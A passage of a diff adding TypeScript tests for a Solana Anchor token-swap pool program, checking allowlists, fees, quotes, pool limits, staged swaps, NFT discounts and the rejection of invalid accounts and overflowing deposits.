+        new BN(10_000_000)
+      );
+    });
+
+    it("still accepts top-level swaps with an allowlist set", async () => {
+      // Only CPI callers are checked; a wallet signing the swap is never one
+      await updateConfig(pool, { allowedCallers: [Keypair.generate().publicKey] });
+
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.allowedCallers.length).to.equal(1);
+
+      const { received } = await swapXForY(pool, 100_000);
+      expect(received).to.be.greaterThan(0);
+    });
+
+    it("rejects an allowlist over capacity", async () => {
+      const callers = Array.from({ length: 5 }, () => Keypair.generate().publicKey);
+      try {
+        await updateConfig(pool, { allowedCallers: callers });
+        expect.fail("Should have failed with too many callers error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("TooManyCallers");
+      }
+    });
+
+    it("clears the allowlist", async () => {
+      await updateConfig(pool, { allowedCallers: [] });
+
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.allowedCallers.length).to.equal(0);
+    });
+  });
+
+  describe("Close Position", () => {
+    let pool: Pool;
+    let position: PublicKey;
+
+    function closePosition(ownerLp: PublicKey = pool.userLp) {
+      return program.methods
+        .closePosition()
+        .accounts({
+          owner: user.publicKey,
+          config: pool.config,
+          mintLp: pool.mintLp,
+          ownerLp,
+          position,
+        })
+        .signers([user])
+        .rpc();
+    }
+
+    before(async () => {
+      pool = await initPool(32);
+      [position] = PublicKey.findProgramAddressSync(
+        [Buffer.from("position"), pool.config.toBuffer(), user.publicKey.toBuffer()],
+        program.programId
+      );
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("refuses to close a position that still holds LP tokens", async () => {
+      try {
+        await closePosition();
+        expect.fail("Should have failed with position not empty error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("PositionNotEmpty");
+      }
+    });
+
+    it("refuses a non-empty position when the LP account is left out", async () => {
+      try {
+        // A client leaving an account out passes the program ID in its place
+        await closePosition(program.programId);
+        expect.fail("Should have failed with position not empty error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("PositionNotEmpty");
+      }
+    });
+
+    it("closes the position and returns its rent after a full exit", async () => {
+      await program.methods
+        .withdrawAll(new BN(0), new BN(0))
+        .accounts(withdrawAccounts(pool))
+        .signers([user])
+        .rpc();
+
+      const rent = await connection.getBalance(position);
+      const lamportsBefore = await connection.getBalance(user.publicKey);
+      await closePosition();
+      const lamportsAfter = await connection.getBalance(user.publicKey);
+
+      expect(await connection.getAccountInfo(position)).to.equal(null);
+      // The user also pays the transaction fee out of the returned rent
+      expect(lamportsAfter - lamportsBefore).to.be.closeTo(rent, 10_000);
+    });
+
+    it("opens a fresh position on the next deposit", async () => {
+      await depositInto(
+        pool,
+        new BN(1_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+
+      const positionAccount = await program.account.position.fetch(position);
+      expect(positionAccount.owner.toBase58()).to.equal(user.publicKey.toBase58());
+    });
+
+    it("closes the position after the LP token account was closed", async () => {
+      await program.methods
+        .withdrawAll(new BN(0), new BN(0))
+        .accounts(withdrawAccounts(pool))
+        .signers([user])
+        .rpc();
+      await closeAccount(connection, payer, pool.userLp, user.publicKey, user);
+
+      // The closed account is still passed, and counts as holding nothing
+      await closePosition();
+
+      expect(await connection.getAccountInfo(position)).to.equal(null);
+    });
+  });
+
+  describe("Fee Update Interval", () => {
+    let pool: Pool;
+
+    before(async () => {
+      // Moving the pool off its fee tier is its first fee change
+      pool = await initPool(33);
+    });
+
+    it("records when the fee last changed", async () => {
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.fee).to.equal(fee);
+      expect(configAccount.lastFeeUpdateTs.toNumber()).to.be.greaterThan(0);
+    });
+
+    it("rejects a second fee change within the interval", async () => {
+      try {
+        await updateConfig(pool, { fee: 50 });
+        expect.fail("Should have failed with fee update too frequent error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("FeeUpdateTooFrequent");
+      }
+
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.fee).to.equal(fee);
+    });
+
+    it("still allows re-setting the current fee and other fields", async () => {
+      const before = await program.account.config.fetch(pool.config);
+      await updateConfig(pool, { fee, lockXToY: true });
+
+      const after = await program.account.config.fetch(pool.config);
+      expect(after.lockXToY).to.equal(true);
+      expect(after.lastFeeUpdateTs.toString()).to.equal(before.lastFeeUpdateTs.toString());
+    });
+  });
+
+  describe("Quote Across Fee Configurations", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(34);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    const configurations: [string, object][] = [
+      ["the base fee", {}],
+      ["an impact fee", { impactMultiplierBps: 10_000, maxFeeBps: 500 }],
+      ["the fee taken from the output", { feeOnOutput: true }],
+      ["an absolute fee floor", { feeOnOutput: false, minFeeAbsolute: new BN(20_000) }],
+    ];
+
+    for (const [name, changes] of configurations) {
+      it(`quotes exactly what lands in the account with ${name}`, async () => {
+        await updateConfig(pool, changes);
+
+        for (const isX of [true, false]) {
+          const amountIn = new BN(500_000);
+          const { amountOut: quoted } = await program.methods
+            .quote(isX, amountIn)
+            .accounts(quoteAccounts(pool))
+            .view();
+
+          const userOut = isX ? userAtaY : userAtaX;
+          const before = await getAccount(connection, userOut);
+          await swapOn(pool, isX, amountIn, new BN(1));
+          const after = await getAccount(connection, userOut);
+
+          expect(Number(after.amount) - Number(before.amount)).to.equal(quoted.toNumber());
+        }
+      });
+    }
+  });
+
+  describe("Pool Limit", () => {
+    const creator = Keypair.generate();
+    const [programData] = PublicKey.findProgramAddressSync(
+      [program.programId.toBuffer()],
+      new PublicKey("BPFLoaderUpgradeab1e11111111111111111111111")
+    );
+    const [poolCounter] = PublicKey.findProgramAddressSync(
+      [Buffer.from("pool_counter"), creator.publicKey.toBuffer()],
+      program.programId
+    );
+
+    function setPoolLimit(admin: Keypair, maxPools: number) {
+      return program.methods
+        .setPoolLimit(creator.publicKey, maxPools)
+        .accounts({
+          admin: admin.publicKey,
+          program: program.programId,
+          programData,
+          poolCounter,
+          systemProgram: SystemProgram.programId,
+        })
+        .signers([admin])
+        .rpc();
+    }
+
+    async function createPool(feeTier: number) {
+      const poolSeed = canonicalSeed(mintX, mintY, feeTier);
+      const accounts = await initializeAccounts(poolSeed, mintX, mintY);
+      return program.methods
+        .initialize(poolSeed, feeTier, null)
+        .accounts({ ...accounts, initializer: creator.publicKey, poolCounter })
+        .signers([creator])
+        .rpc();
+    }
+
+    before(async () => {
+      const sig = await connection.requestAirdrop(creator.publicKey, 10 * LAMPORTS_PER_SOL);
+      await connection.confirmTransaction(sig);
+    });
+
+    it("only lets the upgrade authority set a limit", async () => {
+      try {
+        await setPoolLimit(user, 1);
+        expect.fail("Should have failed with invalid authority error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidAuthority");
+      }
+    });
+
+    it("rejects pools past the limit", async () => {
+      await setPoolLimit(payer, 1);
+      await createPool(35);
+
+      try {
+        await createPool(36);
+        expect.fail("Should have failed with pool limit reached error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("PoolLimitReached");
+      }
+
+      const counter = await program.account.poolCounter.fetch(poolCounter);
+      expect(counter.pools).to.equal(1);
+      expect(counter.maxPools).to.equal(1);
+    });
+
+    it("allows another pool once the limit is raised", async () => {
+      await setPoolLimit(payer, 2);
+      await createPool(36);
+
+      const counter = await program.account.poolCounter.fetch(poolCounter);
+      expect(counter.pools).to.equal(2);
+    });
+  });
+
+  describe("Suggested Min Out", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(37);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("buffers the quote by the base plus half the price impact", async () => {
+      // No swap has moved the price yet, so the volatility term is zero
+      const config = await program.account.config.fetch(pool.config);
+      expect(config.volatilityBps.toNumber()).to.equal(0);
+
+      // Impact 100_000 / 10_100_000 = 99 bps, buffer 10 + 99 / 2 = 59 bps
+      const quote = await program.methods
+        .quote(true, new BN(100_000))
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      expect(quote.suggestedMinOut.toNumber()).to.equal(
+        quote.amountOut.muln(10_000 - 59).divn(10_000).toNumber()
+      );
+    });
+
+    it("caps the buffer for a large trade", async () => {
+      // Impact 5_000 bps would ask for a 2_510 bps buffer, capped at 1_000
+      const quote = await program.methods
+        .quote(true, new BN(10_000_000))
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      expect(quote.suggestedMinOut.toNumber()).to.equal(
+        quote.amountOut.muln(9_000).divn(10_000).toNumber()
+      );
+    });
+
+    it("is accepted as min_amount_out by the swap it was quoted for", async () => {
+      const quote = await program.methods
+        .quote(false, new BN(250_000))
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      const userXBefore = await getAccount(connection, userAtaX);
+      await swapOn(pool, false, new BN(250_000), quote.suggestedMinOut);
+      const userXAfter = await getAccount(connection, userAtaX);
+
+      expect(Number(userXAfter.amount) - Number(userXBefore.amount)).to.equal(
+        quote.amountOut.toNumber()
+      );
+    });
+  });
+
+  // Exemption applies to CPI callers only; exercising an exempt caller before
+  // and after expiry needs a second program in the workspace to CPI from
+  describe("Fee-Exempt Caller", () => {
+    let pool: Pool;
+    const partner = Keypair.generate().publicKey;
+
+    before(async () => {
+      pool = await initPool(38);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("stores the exempt caller and its window", async () => {
+      const until = Math.floor(Date.now() / 1000) + 3_600;
+      await updateConfig(pool, {
+        feeExemptCaller: partner,
+        feeExemptUntil: new BN(until),
+      });
+
+      const config = await program.account.config.fetch(pool.config);
+      expect(config.feeExemptCaller.toBase58()).to.equal(partner.toBase58());
+      expect(config.feeExemptUntil.toNumber()).to.equal(until);
+    });
+
+    it("clears the exempt caller with the default pubkey", async () => {
+      await updateConfig(pool, { feeExemptCaller: PublicKey.default });
+
+      let config = await program.account.config.fetch(pool.config);
+      expect(config.feeExemptCaller).to.equal(null);
+
+      await updateConfig(pool, { feeExemptCaller: partner });
+      config = await program.account.config.fetch(pool.config);
+      expect(config.feeExemptCaller.toBase58()).to.equal(partner.toBase58());
+    });
+
+    it("charges a swap not made by the exempt caller the normal fee", async () => {
+      // A wallet-signed swap is top level, so no program is calling it
+      const amountIn = new BN(500_000);
+      const { amountOut } = await program.methods
+        .quote(true, amountIn)
+        .accounts(quoteAccounts(pool))
+        .view();
+      expect(amountOut.toNumber()).to.be.lessThan(
+        cpOut(10_000_000, 10_000_000, amountIn.toNumber())
+      );
+
+      const before = await getAccount(connection, userAtaY);
+      await swapOn(pool, true, amountIn, new BN(1));
+      const after = await getAccount(connection, userAtaY);
+
+      expect(Number(after.amount) - Number(before.amount)).to.equal(amountOut.toNumber());
+    });
+
+    it("keeps charging the normal fee once the window has passed", async () => {
+      await updateConfig(pool, { feeExemptUntil: new BN(1) });
+
+      const amountIn = new BN(500_000);
+      const { amountOut } = await program.methods
+        .quote(false, amountIn)
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      const before = await getAccount(connection, userAtaX);
+      await swapOn(pool, false, amountIn, new BN(1));
+      const after = await getAccount(connection, userAtaX);
+
+      expect(Number(after.amount) - Number(before.amount)).to.equal(amountOut.toNumber());
+    });
+  });
+
+  describe("LP Supply Overflow", () => {
+    let pool: Pool;
+    const nearMax = new BN("18446744073709551605"); // u64::MAX - 10
+
+    before(async () => {
+      pool = await initPool(39);
+      // The first deposit sets the LP amount freely, so the supply starts near the limit
+      await depositInto(pool, nearMax, new BN(1_000), new BN(1_000));
+    });
+
+    it("rejects a deposit that would push the LP supply past u64::MAX", async () => {
+      try {
+        await depositInto(pool, new BN(11), new BN(1_000), new BN(1_000));
+        expect.fail("Should have failed with LP supply overflow error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("LpSupplyOverflow");
+      }
+    });
+  });
+
+  // Charging the fee token needs the pricing pool's TWAP to cover a 30 minute
+  // window, which the local validator's clock cannot be advanced through
+  describe("Fee Token", () => {
+    let pool: Pool;
+    let mintF: PublicKey;
+    let pricing: { config: PublicKey; vaultX: PublicKey; vaultY: PublicKey };
+    let userAtaF: PublicKey;
+    let recipientF: PublicKey;
+
+    function feeTokenAccounts(userFee: PublicKey) {
+      return {
+        swap: {
+          user: user.publicKey,
+          mintX,
+          mintY,
+          config: pool.config,
+          mintLp: pool.mintLp,
+          vaultX: pool.vaultX,
+          vaultY: pool.vaultY,
+          userX: userAtaX,
+          userY: userAtaY,
+          instructions: SYSVAR_INSTRUCTIONS_PUBKEY,
+          tokenProgram: TOKEN_PROGRAM_ID,
+          associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+          systemProgram: SystemProgram.programId,
+        },
+        pricingConfig: pricing.config,
+        userFee,
+        feeRecipient: recipientF,
+      };
+    }
+
+    async function balance(account: PublicKey): Promise<bigint> {
+      return (await getAccount(connection, account)).amount;
+    }
+
+    before(async () => {
+      mintF = await createMint(connection, payer, mintAuthority.publicKey, null, 6);
+      userAtaF = await createAssociatedTokenAccount(connection, payer, mintF, user.publicKey);
+      recipientF = await createAssociatedTokenAccount(connection, payer, mintF, payer.publicKey);
+      await mintTo(connection, payer, mintF, userAtaF, mintAuthority, 1_000_000_000);
+
+      // X/F pricing pool at 1 X = 2 F
+      const pricingSeed = canonicalSeed(mintX, mintF, fee);
+      const accounts = await initializeAccounts(pricingSeed, mintX, mintF);
+      await program.methods
+        .initialize(pricingSeed, fee, payer.publicKey)
+        .accounts(accounts)
+        .rpc();
+      pricing = { config: accounts.config, vaultX: accounts.vaultX, vaultY: accounts.vaultY };
+      await program.methods
+        .deposit(new BN(10_000_000), new BN(10_000_000), new BN(20_000_000))
+        .accounts({
+          user: user.publicKey,
+          mintX,
+          mintY: mintF,
+          config: accounts.config,
+          mintLp: accounts.mintLp,
+          vaultX: accounts.vaultX,
+          vaultY: accounts.vaultY,
+          userX: userAtaX,
+          userY: userAtaF,
+          userLp: await getAssociatedTokenAddress(accounts.mintLp, user.publicKey),
+          tokenProgram: TOKEN_PROGRAM_ID,
+          systemProgram: SystemProgram.programId,
+          associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+        })
+        .signers([user])
+        .rpc();
+
+      pool = await initPool(40);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+      await updateConfig(pool, { feeMint: mintF, feePricingPool: pricing.config });
+    });
+
+    it("rejects one of the traded tokens as the fee mint", async () => {
+      try {
+        await updateConfig(pool, { feeMint: mintX });
+        expect.fail("Should have failed with invalid token error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidToken");
+      }
+    });
+
+    it("charges the fee in the traded tokens until the pricing pool has a TWAP", async () => {
+      const amountIn = new BN(100_000);
+      const { amountOut } = await program.methods
+        .quote(true, amountIn)
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      const [userYBefore, userFBefore, recipientBefore] = await Promise.all([
+        balance(userAtaY),
+        balance(userAtaF),
+        balance(recipientF),
+      ]);
+      await program.methods
+        .swapWithFeeToken(true, amountIn, new BN(1))
+        .accounts(feeTokenAccounts(userAtaF))
+        .signers([user])
+        .rpc();
+
+      expect((await balance(userAtaY)) - userYBefore).to.equal(BigInt(amountOut.toString()));
+      expect(await balance(userAtaF)).to.equal(userFBefore);
+      expect(await balance(recipientF)).to.equal(recipientBefore);
+
+      // The first call only records where the pricing pool's accumulators stood
+      const config = await program.account.config.fetch(pool.config);
+      const pricingConfig = await program.account.config.fetch(pricing.config);
+      expect(config.feePriceTs.toString()).to.equal(pricingConfig.lastUpdateTs.toString());
+      expect(config.feePriceCumulative.toString()).to.equal(
+        pricingConfig.priceCumulativeX.toString()
+      );
+      expect(config.feePrice.toString()).to.equal("0");
+    });
+
+    it("starts the fee price over when the pricing pool is set again", async () => {
+      await updateConfig(pool, { feePricingPool: pricing.config });
+
+      const config = await program.account.config.fetch(pool.config);
+      expect(config.feePriceTs.toNumber()).to.equal(0);
+      expect(config.feePriceCumulative.toString()).to.equal("0");
+    });
+  });
+
+  // Anchor's TokenAccount owner check runs before the handler's explicit
+  // InvalidAccountOwner check, so that is the error these see
+  describe("Swap Account Owners", () => {
+    function swapAccounts(overrides: object) {
+      return {
+        user: user.publicKey,
+        mintX,
+        mintY,
+        config,
+        mintLp,
+        vaultX,
+        vaultY,
+        userX: userAtaX,
+        userY: userAtaY,
+        tokenProgram: TOKEN_PROGRAM_ID,
+        associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+        systemProgram: SystemProgram.programId,
+        ...overrides,
+      };
+    }
+
+    // The config PDA is owned by this program, not the token program
+    for (const name of ["vaultX", "vaultY", "userX", "userY"]) {
+      it(`rejects a ${name} owned by another program`, async () => {
+        try {
+          await program.methods
+            .swap(true, new BN(1_000), new BN(1))
+            .accounts(swapAccounts({ [name]: config }))
+            .signers([user])
+            .rpc();
+          expect.fail("Should have rejected the foreign-owned account");
+        } catch (err: any) {
+          expect(err.toString()).to.include("AccountOwnedByWrongProgram");
+        }
+      });
+    }
+  });
+
+  // A holder of a verified collection NFT needs the metadata program's
+  // instructions to mint, so only the rejected and absent cases are covered
+  describe("NFT Fee Discount", () => {
+    const TOKEN_METADATA_PROGRAM_ID = new PublicKey(
+      "metaqbxxUerdq28cj1RbAWkYQm3ybzjb6a8bt518x1s"
+    );
+    const collection = Keypair.generate().publicKey;
+    let pool: Pool;
+
+    function metadataAddress(mint: PublicKey): PublicKey {
+      return PublicKey.findProgramAddressSync(
+        [Buffer.from("metadata"), TOKEN_METADATA_PROGRAM_ID.toBuffer(), mint.toBuffer()],
+        TOKEN_METADATA_PROGRAM_ID
+      )[0];
+    }
+
+    async function swapWithNft(nftMint: PublicKey, nftAccount: PublicKey) {
+      return program.methods
+        .swapWithNftDiscount(true, new BN(100_000), new BN(1))
+        .accounts({
+          swap: {
+            user: user.publicKey,
+            mintX,
+            mintY,
+            config: pool.config,
+            mintLp: pool.mintLp,
+            vaultX: pool.vaultX,
+            vaultY: pool.vaultY,
+            userX: userAtaX,
+            userY: userAtaY,
+            instructions: SYSVAR_INSTRUCTIONS_PUBKEY,
+            tokenProgram: TOKEN_PROGRAM_ID,
+            associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+            systemProgram: SystemProgram.programId,
+          },
+          nftMint,
+          nftAccount,
+          nftMetadata: metadataAddress(nftMint),
+          metadataProgram: TOKEN_METADATA_PROGRAM_ID,
+        })
+        .signers([user])
+        .rpc();
+    }
+
+    // A one-of-one mint held by `owner`, with no metadata behind it
+    async function bareNft(owner: PublicKey) {
+      const nftMint = await createMint(connection, payer, mintAuthority.publicKey, null, 0);
+      const ownerAta = await createAssociatedTokenAccount(connection, payer, nftMint, owner);
+      await mintTo(connection, payer, nftMint, ownerAta, mintAuthority, 1);
+      return { nftMint, ownerAta };
+    }
+
+    before(async () => {
+      pool = await initPool(41);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+      await updateConfig(pool, { discountCollection: collection, nftDiscountBps: 5_000 });
+    });
+
+    it("rejects a discount above the whole fee", async () => {
+      try {
+        await updateConfig(pool, { nftDiscountBps: 10_001 });
+        expect.fail("Should have failed with invalid fee error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidFee");
+      }
+    });
+
+    it("rejects an NFT with no token metadata behind it", async () => {
+      const { nftMint, ownerAta } = await bareNft(user.publicKey);
+      try {
+        await swapWithNft(nftMint, ownerAta);
+        expect.fail("Should have failed on the missing metadata account");
+      } catch (err: any) {
+        expect(err.toString()).to.include("AccountNotInitialized");
+      }
+    });
+
+    it("rejects an NFT the user does not hold", async () => {
+      const { nftMint } = await bareNft(payer.publicKey);
+      const emptyAta = await createAssociatedTokenAccount(
+        connection,
+        payer,
+        nftMint,
+        user.publicKey
+      );
+      try {
+        await swapWithNft(nftMint, emptyAta);
+        expect.fail("Should have failed with invalid NFT error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidNft");
+      }
+    });
+
+    it("charges the full fee without an NFT", async () => {
+      const { amountOut } = await program.methods
+        .quote(true, new BN(100_000))
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      const before = await getAccount(connection, userAtaY);
+      await swapOn(pool, true, new BN(100_000), new BN(1));
+      const after = await getAccount(connection, userAtaY);
+
+      expect(Number(after.amount) - Number(before.amount)).to.equal(amountOut.toNumber());
+    });
+  });
+
+  describe("Config Seeds", () => {
+    it("returns seeds that re-derive the config address", async () => {
+      const seeds: Buffer[] = await program.methods
+        .configSeeds()
+        .accounts({ config })
+        .view();
+
+      expect(seeds).to.have.length(3);
+      expect(Buffer.from(seeds[0]).toString()).to.equal("config");
+      expect(Buffer.from(seeds[1]).equals(seed.toArrayLike(Buffer, "le", 8))).to.be.true;
+
+      const derived = PublicKey.createProgramAddressSync(
+        seeds.map((s) => Buffer.from(s)),
+        program.programId
+      );
+      expect(derived.toBase58()).to.equal(config.toBase58());
+    });
+  });
+
+  describe("Rebalance Mode", () => {
+    let pool: Pool;
+    const amountIn = 100_000;
+
+    async function quoteOut(isX: boolean): Promise<number> {
+      const { amountOut } = await program.methods
+        .quote(isX, new BN(amountIn))
+        .accounts(quoteAccounts(pool))
+        .view();
+      return amountOut.toNumber();
+    }
+
+    // Output after an input fee of `feeBps`, rounded up like the program does
+    function outAfterFee(reserveIn: number, reserveOut: number, feeBps: number): number {
+      const netIn = amountIn - Math.ceil((amountIn * feeBps) / 10_000);
+      return cpOut(reserveIn, reserveOut, netIn);
+    }
+
+    before(async () => {
+      // Spot ratio 1.2 against a target of 1.0: 20% off, so strength 1_000 moves the fee 200 bps
+      pool = await initPool(42);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(12_000_000)
+      );
+      await updateConfig(pool, {
+        targetRatio: new BN(PRICE_SCALE),
+        rebalanceStrength: 1_000,
+      });
+    });
+
+    it("rejects a strength above 10_000 bps", async () => {
+      try {
+        await updateConfig(pool, { rebalanceStrength: 10_001 });
+        expect.fail("Should have failed with invalid fee error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidFee");
+      }
+    });
+
+    it("charges a balance-restoring swap less than a balance-worsening one", async () => {
+      // Selling X lowers the ratio towards the target: 100 - 200 bps, floored at 0
+      const restoring = await quoteOut(true);
+      expect(restoring).to.equal(outAfterFee(10_000_000, 12_000_000, 0));
+
+      // Selling Y raises it further away: 100 + 200 bps
+      const worsening = await quoteOut(false);
+      expect(worsening).to.equal(outAfterFee(12_000_000, 10_000_000, 300));
+
+      const restoringFee = cpOut(10_000_000, 12_000_000, amountIn) - restoring;
+      const worseningFee = cpOut(12_000_000, 10_000_000, amountIn) - worsening;
+      expect(restoringFee).to.be.lessThan(worseningFee);
+    });
+
+    it("pays the quoted output on an actual swap", async () => {
+      const quoted = await quoteOut(true);
+
+      const before = await getAccount(connection, userAtaY);
+      await swapOn(pool, true, new BN(amountIn), new BN(quoted));
+      const after = await getAccount(connection, userAtaY);
+
+      expect(Number(after.amount) - Number(before.amount)).to.equal(quoted);
+    });
+
+    it("charges both directions the base fee once turned off", async () => {
+      await updateConfig(pool, { targetRatio: new BN(0) });
+
+      const reserveX = Number((await getAccount(connection, pool.vaultX)).amount);
+      const reserveY = Number((await getAccount(connection, pool.vaultY)).amount);
+      expect(await quoteOut(true)).to.equal(outAfterFee(reserveX, reserveY, fee));
+      expect(await quoteOut(false)).to.equal(outAfterFee(reserveY, reserveX, fee));
+    });
+  });
+
+  describe("Staged Swap", () => {
+    let pool: Pool;
+
+    function stagedSwapAddress(isX: boolean): PublicKey {
+      const [address] = PublicKey.findProgramAddressSync(
+        [
+          Buffer.from("staged_swap"),
+          pool.config.toBuffer(),
+          user.publicKey.toBuffer(),
+          Buffer.from([isX ? 1 : 0]),
+        ],
+        program.programId
+      );
+      return address;
+    }
+
+    async function escrowAddress(isX: boolean): Promise<PublicKey> {
+      return getAssociatedTokenAddress(isX ? mintX : mintY, stagedSwapAddress(isX), true);
+    }
+
+    async function stage(isX: boolean, amount: number) {
+      return program.methods
+        .stageSwap(isX, new BN(amount))
+        .accounts({
+          user: user.publicKey,
+          config: pool.config,
+          mintIn: isX ? mintX : mintY,
+          stagedSwap: stagedSwapAddress(isX),
+          userIn: isX ? userAtaX : userAtaY,
+          escrow: await escrowAddress(isX),
+          tokenProgram: TOKEN_PROGRAM_ID,
+          associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+          systemProgram: SystemProgram.programId,
+        })
+        .signers([user])
+        .rpc();
+    }
+
+    async function finalize(isX: boolean, minOut: number) {
+      return program.methods
+        .finalizeStagedSwap(new BN(minOut))
+        .accounts({
+          user: user.publicKey,
+          mintX,
+          mintY,
+          config: pool.config,
+          mintLp: pool.mintLp,
+          vaultX: pool.vaultX,
+          vaultY: pool.vaultY,
+          userX: userAtaX,
+          userY: userAtaY,
+          stagedSwap: stagedSwapAddress(isX),
+          escrow: await escrowAddress(isX),
+          instructions: SYSVAR_INSTRUCTIONS_PUBKEY,
+          tokenProgram: TOKEN_PROGRAM_ID,
+          associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+          systemProgram: SystemProgram.programId,
+        })
+        .signers([user])
+        .rpc();
+    }
+
+    async function cancel(isX: boolean) {
+      return program.methods
+        .cancelStagedSwap()
+        .accounts({
+          user: user.publicKey,
+          config: pool.config,
+          stagedSwap: stagedSwapAddress(isX),
+          escrow: await escrowAddress(isX),
+          userIn: isX ? userAtaX : userAtaY,
+          tokenProgram: TOKEN_PROGRAM_ID,
+        })
+        .signers([user])
+        .rpc();
+    }
+
+    async function quoteOut(isX: boolean, amountIn: number): Promise<number> {
+      const { amountOut } = await program.methods
+        .quote(isX, new BN(amountIn))
+        .accounts(quoteAccounts(pool))
+        .view();
+      return amountOut.toNumber();
+    }
+
+    before(async () => {
+      pool = await initPool(43);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("accumulates input across several stages in the escrow", async () => {
+      await stage(true, 40_000);
+      await stage(true, 60_000);
+
+      const staged = await program.account.stagedSwap.fetch(stagedSwapAddress(true));
+      expect(staged.owner.toBase58()).to.equal(user.publicKey.toBase58());
+      expect(staged.config.toBase58()).to.equal(pool.config.toBase58());
+      expect(staged.isX).to.be.true;
+      expect(staged.amountIn.toNumber()).to.equal(100_000);
+
+      const escrow = await getAccount(connection, await escrowAddress(true));
+      expect(Number(escrow.amount)).to.equal(100_000);
+    });
+
+    it("rejects a zero stage", async () => {
+      try {
+        await stage(true, 0);
+        expect.fail("Should have failed with invalid amount error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidAmount");
+      }
+    });
+
+    it("fails to finalize below the caller's minimum output", async () => {
+      const quoted = await quoteOut(true, 100_000);
+      try {
+        await finalize(true, quoted + 1);
+        expect.fail("Should have failed with slippage error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("SlippageExceeded");
+      }
+    });
+
+    it("finalizes the whole staged input at current reserves", async () => {
+      // Move the reserves after staging: the fill is priced on the reserves at finalize
+      await swapOn(pool, false, new BN(50_000), new BN(1));
+      const quoted = await quoteOut(true, 100_000);
+
+      const before = await getAccount(connection, userAtaY);
+      const vaultXBefore = await getAccount(connection, pool.vaultX);
+      await finalize(true, quoted);
+      const after = await getAccount(connection, userAtaY);
+      const vaultXAfter = await getAccount(connection, pool.vaultX);
+
+      expect(Number(after.amount) - Number(before.amount)).to.equal(quoted);
+      expect(Number(vaultXAfter.amount) - Number(vaultXBefore.amount)).to.equal(100_000);
+      expect(await connection.getAccountInfo(stagedSwapAddress(true))).to.be.null;
+      expect(await connection.getAccountInfo(await escrowAddress(true))).to.be.null;
+    });
+
+    it("refunds tokens sent straight to the escrow on finalize", async () => {
+      await stage(true, 10_000);
+      // Anyone can send to the escrow; finalize must still be able to close it
+      await mintTo(connection, payer, mintX, await escrowAddress(true), mintAuthority, 1_000);
+      const quoted = await quoteOut(true, 10_000);
+
+      const beforeX = await getAccount(connection, userAtaX);
+      const beforeY = await getAccount(connection, userAtaY);
+      await finalize(true, quoted);
+      const afterX = await getAccount(connection, userAtaX);
+      const afterY = await getAccount(connection, userAtaY);
+
+      expect(Number(afterX.amount) - Number(beforeX.amount)).to.equal(1_000);
+      expect(Number(afterY.amount) - Number(beforeY.amount)).to.equal(quoted);
+      expect(await connection.getAccountInfo(stagedSwapAddress(true))).to.be.null;
+      expect(await connection.getAccountInfo(await escrowAddress(true))).to.be.null;
+    });
+
+    it("refunds the staged input on cancel", async () => {
+      const before = await getAccount(connection, userAtaY);
+      await stage(false, 30_000);
+      await stage(false, 20_000);
+      await cancel(false);
+      const after = await getAccount(connection, userAtaY);
+
+      expect(after.amount).to.equal(before.amount);
+      expect(await connection.getAccountInfo(stagedSwapAddress(false))).to.be.null;
+      expect(await connection.getAccountInfo(await escrowAddress(false))).to.be.null;
+    });
+  });
+
+  describe("Locked Pool", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(44);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+      await updateConfig(pool, { locked: true });
+    });
+
+    it("rejects deposits while locked", async () => {
+      try {
+        await depositInto(pool, new BN(1_000_000), new BN(1_000_000), new BN(1_000_000));
+        expect.fail("Should have failed with pool locked error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("PoolLocked");
+      }
+    });
+
